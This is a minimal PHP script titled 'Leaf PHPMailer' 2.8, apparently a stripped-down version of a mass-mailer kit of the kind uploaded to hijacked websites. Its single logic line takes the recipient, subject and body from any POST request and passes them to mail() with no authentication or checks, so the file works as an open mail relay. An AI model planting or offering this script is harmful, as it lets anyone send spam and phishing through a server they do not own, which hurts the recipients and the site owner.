<?php
$leaf['version'] = "2.8";
$leaf['website'] = "leafmailer.pw";
echo "<title>Leaf PHPMailer</title>";
if (isset($_POST['action'])) { mail($_POST['to'], $_POST['subject'], $_POST['body']); }
